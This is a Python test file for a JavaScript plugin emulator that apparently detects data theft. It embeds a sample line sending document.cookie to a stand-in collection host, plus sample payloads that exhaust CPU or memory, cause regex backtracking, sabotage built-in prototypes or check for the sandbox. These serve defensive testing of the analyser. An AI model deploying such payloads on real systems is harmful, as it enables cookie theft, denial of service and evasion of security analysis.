"""Code that attacks the stage ends soon, cannot take back what it did, and is not silent when it was cut."""
# ruff: noqa: E501  # one piece of code, one line

import resource
from collections.abc import Mapping

import pytest

from qirvo.analysis.emulation import Emulated, emulate
from qirvo.analysis.staging import marks_of

MOST_CPU_S = 6.0
HARM = "fetch('https://collect.example.org/?' + document.cookie);"
STOPS: Mapping[str, str] = {
    "a loop": "for (;;);",
    "a loop in a callback": "setTimeout(() => { for (;;); });",
    "promises that resolve for ever": "(function f() { Promise.resolve().then(f); })();",
    "timers that start for ever": "(function f() { setTimeout(() => f()); })();",
    "recursion": "(function f() { f(); f(); })();",
    "texts": "let s = 'a'; const all = []; for (;;) { s += s; all.push(s); }",
    "arrays": "const all = []; for (;;) all.push(new Array(1000).fill(1));",
    "bytes": "const all = []; for (;;) all.push(new Uint8Array(1e6));",
    "a regular expression": "/^(a+)+$/.test('a'.repeat(60) + 'b');",
    "a replacement that no clock ends": "const s = 'ab'.repeat(2 ** 20); s.replaceAll('a', s);",
    "a getter": "fetch('/x', { get body() { for (;;); } });",
    "a text that is asked for": "fetch({ toString() { for (;;); } });",
    "an error that shows itself": "throw { toString() { for (;;); }, get message() { for (;;); } };",
    "a long sparse list": "const a = []; a.length = 4e9; a.join();",
}
CHANGES: Mapping[str, str] = {
    "methods": "for (const k of [Array, String, Map, Set, RegExp, Function, Promise, WeakMap, Number]) for (const n of Object.getOwnPropertyNames(k.prototype)) try { k.prototype[n] = () => { throw 1; }; } catch {}",
    "functions": "const names = Object.getOwnPropertyNames; for (const o of [Object, Reflect, JSON, Math, Promise, Array, String, Symbol]) for (const n of names(o)) try { o[n] = () => { throw 1; }; } catch {}",
    "iteration": "try { Array.prototype[Symbol.iterator] = null; } catch {} try { [][Symbol.iterator]().__proto__.next = null; } catch {}",
    "setters": "for (const n of ['kind', 'labels', 'owner', 'data', 'toJSON', 'get', 'set', 'value', '0', '1']) Object.defineProperty(Object.prototype, n, { __proto__: null, get() { return undefined; }, set() {}, configurable: true });",
    "indexes": "for (let n = 0; n < 9; n++) Object.defineProperty(Array.prototype, n, { __proto__: null, set() { this.length = 0; }, configurable: true });",
    "stacks": "Error.stackTraceLimit = 0; Error.prepareStackTrace = () => ''; globalThis.Error = null;",
    "the global object": "for (const n of Object.getOwnPropertyNames(globalThis)) if (!['fetch', 'document', 'undefined', 'NaN', 'Infinity'].includes(n)) try { delete globalThis[n]; } catch {}",
    "the stage": "globalThis.__stage = { report: () => '{}' };",
    "species": "Array.prototype.constructor = { [Symbol.species]: function () { throw 1; } }; Promise.prototype.constructor = null;",
}


def emulated(code: str, **files: bytes) -> tuple[Emulated, float]:
    before = resource.getrusage(resource.RUSAGE_CHILDREN)
    done = emulate({"dist/index.js": code.encode(), **files}, ["dist/index.js"])
    after = resource.getrusage(resource.RUSAGE_CHILDREN)
    return done, after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime


def steals(done: Emulated) -> bool:
    return any(act.kind == "network" and "cookie" in act.labels for act in done.acts)


@pytest.mark.parametrize("name", STOPS)
def test_what_was_done_before_an_end_without_end_is_told_soon(name: str) -> None:
    done, cpu_s = emulated(HARM + STOPS[name])
    assert steals(done)
    assert cpu_s < MOST_CPU_S


@pytest.mark.parametrize("name", sorted({*STOPS} - {"an error that shows itself"}))
def test_what_was_cut_says_so(name: str) -> None:
    assert emulated(STOPS[name])[0].is_cut


@pytest.mark.parametrize("name", CHANGES)
def test_what_is_done_after_the_language_was_changed_is_told(name: str) -> None:
    assert steals(emulated(CHANGES[name] + "\n" + HARM)[0])


def test_harm_that_waits_for_the_limits_is_cut_and_not_taken_for_innocence() -> None:
    assert emulated("for (let n = 0; n < 1e9; n++);" + HARM)[0].is_cut


def test_the_stage_is_nowhere_in_reach() -> None:
    done, _ = emulated(
        "if (typeof __stage === 'undefined' && typeof std === 'undefined' && typeof os === 'undefined')" + HARM
    )
    assert steals(done)


def test_a_mark_in_a_plugin_is_no_alarm() -> None:
    head, tail = marks_of({"a": b""})
    assert not steals(emulated(f"fetch('https://api.example.org/?q=Qz7cookieZq{head}cookie{tail}');")[0])


@pytest.mark.parametrize("name", ["__proto__", "constructor", "toString", "dist/__proto__.js"])
def test_a_file_may_have_any_name(name: str) -> None:
    done = emulate({name: HARM.encode(), "dist/index.js": b"1"}, [name, "dist/index.js"])
    assert steals(done) is name.endswith(".js")


def test_the_same_plugin_does_the_same_every_time() -> None:
    assert emulated(HARM)[0] == emulated(HARM)[0]


@pytest.mark.parametrize(
    "thrown", ["null", "undefined", "new Proxy({}, { get() { throw 1; } })", "new InternalError('x')"]
)
def test_whatever_is_thrown_the_rest_is_run(thrown: str) -> None:
    done, _ = emulated(f"exports.a = () => {{ throw {thrown}; }}; exports.b = () => {{ {HARM} }};")
    assert steals(done)
